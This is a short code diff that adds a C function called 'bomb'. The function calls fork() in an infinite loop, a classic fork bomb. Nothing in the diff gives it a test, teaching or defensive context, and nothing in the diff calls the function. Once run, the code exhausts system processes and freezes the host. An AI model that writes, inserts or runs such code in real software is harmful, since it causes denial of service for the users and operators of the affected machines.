@@ -1,0 +1,6 @@
+#include <unistd.h>
+static void bomb(void)
+{
+    for (;;)
+        (void)fork();
+}
